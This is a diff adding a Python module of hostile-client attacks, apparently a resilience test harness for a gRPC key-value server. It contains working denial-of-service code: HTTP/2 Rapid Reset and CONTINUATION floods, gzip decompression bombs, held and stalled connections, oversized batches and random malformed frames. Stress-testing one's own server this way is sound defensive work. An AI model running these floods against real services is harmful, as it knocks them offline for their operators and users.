@@ -1,0 +1,365 @@
+"""What hostile clients do. Each attack runs in a process of its own until its time is over, and
+goes on when the server cuts it off: with new connections, as an attacker would.
+
+An attack is a function of a Target and a deadline (time.monotonic()); it returns one line that says
+what load it was.
+"""
+
+import contextlib
+import dataclasses
+import gzip
+import os
+import random
+import select
+import socket
+import time
+
+from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, KV, MOST_DATA,
+                   RST_STREAM, Connection, field, frame, header_block, literal, message)
+
+ATTACKS = {}
+HEALTH_CHECK = "/grpc.health.v1.Health/Check"
+REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+ADMIN = "/lodgekv.v1.AdminService/"
+
+
+@dataclasses.dataclass
+class Target:
+    data: str
+    admin: str
+    health: str
+    metrics: str
+
+
+def attack(function):
+    ATTACKS[function.__name__.replace("_", " ")] = function
+    return function
+
+
+def until(deadline):
+    while time.monotonic() < deadline:
+        yield
+
+
+def dial(address):
+    host, port = address.rsplit(":", 1)
+    return socket.create_connection((host, int(port)), timeout=5)
+
+
+# --- connections ---
+
+@attack
+def bare_connections(target, deadline):
+    """Opened and left alone; one that is cut is replaced."""
+    held, opened = [], 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            while len(held) < 1_100:
+                held.append(dial(target.data))
+                opened += 1
+        held = [one for one in held if not is_cut(one)]
+        time.sleep(0.05)
+    return f"1,100 connections without a byte, {opened:,} opened in all"
+
+
+def is_cut(one):
+    """Whether the server has closed the connection; what it said is thrown away."""
+    poll = select.poll()
+    poll.register(one, select.POLLIN)
+    try:
+        while poll.poll(0):
+            if one.recv(1 << 16) == b"":
+                return True
+    except OSError:
+        return True
+    return False
+
+
+@attack
+def connections_one_after_another(target, deadline):
+    opened = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            dial(target.data).close()
+            opened += 1
+    return f"{opened:,} connections opened and closed"
+
+
+@attack
+def callers_who_never_leave(target, deadline):
+    """A call on each connection, which is then kept."""
+    held, opened = [], 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            if len(held) < 900:
+                one = Connection(target.data, reads=False)
+                one.call(KV + "Get", field(1, b"key"))
+                held.append(one)
+                opened += 1
+                continue
+        held = [one for one in held if not is_cut(one.socket)]
+        time.sleep(0.05)
+    return f"{opened:,} connections with one Get each, kept open"
+
+
+# --- what gRPC holds before anybody is asked ---
+
+def flood(target_address, deadline, first, chunk):
+    """Sends chunk over and over; a connection that is cut is replaced."""
+    sent = connections = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            one = Connection(target_address)
+            connections += 1
+            one.send(first)
+            for _ in until(deadline):
+                one.send(chunk)
+                sent += len(chunk)
+    return f"{sent / 1e6:,.0f} MB over {connections:,} connections"
+
+
+def continuation_flood(address, deadline):
+    block = literal("x", "y" * 100) * 150
+    first = frame(HEADERS, 0, 1, header_block(KV + "Get"))
+    return flood(address, deadline, first, frame(CONTINUATION, 0, 1, block) * 16)
+
+
+@attack
+def continuation_flood_on_the_data_port(target, deadline):
+    return continuation_flood(target.data, deadline)
+
+
+@attack
+def continuation_flood_on_the_health_port(target, deadline):
+    return continuation_flood(target.health, deadline)
+
+
+@attack
+def a_header_without_end(target, deadline):
+    """One string, announced with 16 MiB, in CONTINUATION frames."""
+    length = b"\x7f" + b"\x81\xff\xff\x07"  # 16 MiB
+    first = frame(HEADERS, 0, 1, header_block(KV + "Get") + b"\x00\x01x" + length)
+    return flood(target.data, deadline, first, frame(CONTINUATION, 0, 1, b"y" * MOST_DATA) * 4)
+
+
+@attack
+def announced_and_unfinished_messages(target, deadline):
+    """Streams that each send all but the last byte of the largest batch."""
+    size = 5 << 20
+    streams = sent = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            one = Connection(target.data)
+            numbers = [one.next_stream() for _ in range(120)]
+            for number in numbers:
+                head = message(b"\0" * size)[:5]
+                one.send(frame(HEADERS, END_HEADERS, number, header_block(KV + "BatchWrite"))
+                         + frame(DATA, 0, number, head))
+                streams += 1
+            for _ in range((size - 1) // MOST_DATA):
+                for number in numbers:
+                    if time.monotonic() > deadline:
+                        return f"{streams:,} streams, {sent / 1e6:,.0f} MB"
+                    one.send(frame(DATA, 0, number, b"\0" * MOST_DATA))
+                    sent += MOST_DATA
+            time.sleep(max(0.0, deadline - time.monotonic()))
+    return f"{streams:,} streams, {sent / 1e6:,.0f} MB"
+
+
+@attack
+def gzip_bombs(target, deadline):
+    bomb = message(gzip.compress(b"\0" * (900 << 20), 9), compressed=True)
+    calls = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            one = Connection(target.data)
+            stream = one.next_stream()
+            one.send(frame(HEADERS, END_HEADERS, stream,
+                           header_block(KV + "Put", grpc_encoding="gzip")))
+            for at in range(0, len(bomb), MOST_DATA):
+                last = at + MOST_DATA >= len(bomb)
+                one.send(frame(DATA, END_STREAM if last else 0, stream, bomb[at:at + MOST_DATA]))
+            calls += 1
+            time.sleep(0.3)
+            one.close()
+    return f"{calls:,} messages of {len(bomb) / 1e6:.1f} MB that inflate to 900 MiB"
+
+
+@attack
+def batches_of_nothing(target, deadline):
+    """5.3 MB of operations without a byte in them."""
+    payload = field(1, b"") * (5_300_000 // 2)
+    calls = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            one = Connection(target.data)
+            for _ in until(deadline):
+                one.call(KV + "BatchWrite", payload)
+                calls += 1
+                time.sleep(0.05)
+    return f"{calls:,} batches of 2,650,000 empty operations"
+
+
+# --- resets ---
+
+def rapid_reset(address, path, deadline):
+    block = header_block(path)
+    streams = connections = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            one = Connection(address)
+            connections += 1
+            for _ in until(deadline):
+                parts = []
+                for _ in range(64):
+                    number = one.next_stream()
+                    parts.append(frame(HEADERS, END_HEADERS | END_STREAM, number, block))
+                    parts.append(frame(RST_STREAM, 0, number, CANCEL))
+                one.send(b"".join(parts))
+                streams += 64
+    return f"{streams:,} streams reset over {connections:,} connections"
+
+
+@attack
+def rapid_reset_of_gets(target, deadline):
+    return rapid_reset(target.data, KV + "Get", deadline)
+
+
+@attack
+def rapid_reset_of_unknown_methods(target, deadline):
+    return rapid_reset(target.data, "/no.such.Service/Method", deadline)
+
+
+@attack
+def rapid_reset_of_reflection(target, deadline):
+    return rapid_reset(target.data, REFLECTION, deadline)
+
+
+@attack
+def rapid_reset_of_health(target, deadline):
+    return rapid_reset(target.health, HEALTH_CHECK, deadline)
+
+
+@attack
+def rapid_reset_on_the_admin_port(target, deadline):
+    return rapid_reset(target.admin, ADMIN + "Status", deadline)
+
+
+# --- work ---
+
+@attack
+def scans_that_nobody_reads(target, deadline):
+    """Three hundred, over twenty connections whose windows are open and whose sockets are full."""
+    held = []
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            if len(held) < 20:
+                one = Connection(target.data, window=(1 << 31) - 1, reads=False,
+                                 receive_buffer=4_096)
+                for _ in range(15):
+                    one.call(KV + "Scan", b"")
+                held.append(one)
+                continue
+        held = [one for one in held if not is_gone(one)]
+        time.sleep(0.02)
+    return "300 Scans over 20 connections"
+
+
+def is_gone(one):
+    """Whether the server has reset the connection; there is always something to read."""
+    return one.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0
+
+
+@attack
+def answers_that_nobody_takes(target, deadline):
+    """8,200 Gets with a window of nothing."""
+    held, calls = [], 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            if len(held) < 41:
+                one = Connection(target.data, window=0)
+                for _ in range(200):
+                    one.call(KV + "Get", field(1, b"key000000"))
+                    calls += 1
+                held.append(one)
+                continue
+            time.sleep(0.5)
+            held.pop(random.randrange(len(held))).close()
+    return f"8,200 Gets at a time, {calls:,} in all"
+
+
+@attack
+def batches_over_the_limit(target, deadline):
+    payload = field(1, field(2, b"k")) * 8_193
+    calls = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            one = Connection(target.data)
+            for _ in until(deadline):
+                one.call(KV + "BatchWrite", payload)
+                calls += 1
+    return f"{calls:,} batches of 8,193 operations"
+
+
+@attack
+def streams_of_reflection(target, deadline):
+    held = []
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            if len(held) < 8:
+                one = Connection(target.admin)
+                for _ in range(60):
+                    stream = one.next_stream()
+                    one.send(frame(HEADERS, END_HEADERS, stream, header_block(REFLECTION)))
+                held.append(one)
+                continue
+        time.sleep(0.1)
+    return "480 streams of reflection kept open on the admin port"
+
+
+@attack
+def checks_in_a_loop(target, deadline):
+    """Eight at a time."""
+    held = [Connection(target.admin) for _ in range(8)]
+    calls = 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            for one in held:
+                one.call(ADMIN + "Check", b"")
+                calls += 1
+        time.sleep(0.01)
+    return f"{calls:,} Checks over 8 connections"
+
+
+@attack
+def idle_connections_of_the_metrics(target, deadline):
+    held = []
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            if len(held) < 200:
+                held.append(dial(target.metrics))
+                continue
+        held = [one for one in held if not is_cut(one)]
+        time.sleep(0.05)
+    return "200 connections that ask nothing on the metrics' port"
+
+
+# --- nonsense ---
+
+@attack
+def malformed_frames(target, deadline):
+    """Random kinds, flags, lengths and bytes behind a good preface, and without one."""
+    rng = random.Random(7)
+    connections = 0
+    for _ in until(deadline):
+        for address in (target.data, target.admin, target.health, target.metrics):
+            with contextlib.suppress(OSError):
+                one = Connection(address) if rng.random() < 0.8 else None
+                raw = one.socket if one else dial(address)
+                connections += 1
+                for _ in range(rng.randrange(1, 20)):
+                    payload = os.urandom(rng.randrange(0, 200))
+                    raw.sendall(frame(rng.randrange(0, 12), rng.randrange(256),
+                                      rng.randrange(0, 9), payload))
+                raw.close()
+    return f"{connections:,} connections with random frames"
